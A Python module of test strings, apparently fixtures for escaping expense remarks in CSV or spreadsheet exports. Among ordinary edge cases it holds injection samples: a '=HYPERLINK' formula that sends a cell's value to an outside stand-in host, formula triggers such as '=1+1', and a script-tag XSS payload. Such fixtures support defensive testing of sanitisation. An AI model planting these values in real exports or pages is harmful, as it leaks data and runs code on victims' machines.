"""Comments on expenses as people and programs leave them, odd texts among them."""

from typing import Final

REMARKS: Final = (
    "agreed by phone with accounting",
    "see ticket BILL-2291",
    "traffic of the launch event",
    "customer asked for a split by region, see the report",
    '=HYPERLINK("https://example.com?x="&A1,"click")',
    "=1+1",
    "+1 free day, promised by sales",
    "-5 % agreed by phone",
    "@finance: please check",
    "\tindented with a tab",
    "\rcarriage return first",
    "one line\nand another, with a comma",
    "Windows lines\r\nend like this",
    'they said "it is fine", and left',
    '"',
    "'=quoted already",
    "<script>alert('x')</script> & co",
    "]]> <![CDATA[ x ]]>",
    "&lt;not markup&gt;",
    "_x000D_ looks like an escape",
    "Größe geändert – siehe Vertrag §7",
    "исправлено по заявке клиента",
    "請求書を確認してください",
    "تم التعديل",
    "👍🏽 confirmed",
    "zero\u200bwidth and no\u00a0break",
    "line\u2028separator",
    "bell \x07 from an old terminal",
    "NULL",
    "null",
    "None",
    "",
    " ",
    "0012",
    "1e5",
    "12345678901234567890",
    "3.14",
    "TRUE",
    "2026-08-01",
    "1/2",
    "#REF!",
    "semi;colon, comma, pipe|tab\tdone",
    "back\\slash \\N \\. \\n",
    "ends with a space ",
    "x" * 1000,
)

LATE_USAGE_REASON: Final = "late usage records arrived"
SENT_TWICE_REASON: Final = "usage records were sent twice; the second copy was taken out"
WRONG_TAX_REASON: Final = "tax rate of the payer corrected"
REVISION_REASONS: Final = (LATE_USAGE_REASON, SENT_TWICE_REASON, WRONG_TAX_REASON)
WITHDRAWN_REASON: Final = "test traffic, not to be billed"
LATE_REASON: Final = "usage that the meters missed, agreed with the client"
RETURNED_REASON: Final = "disputed usage, taken back by agreement with the client"
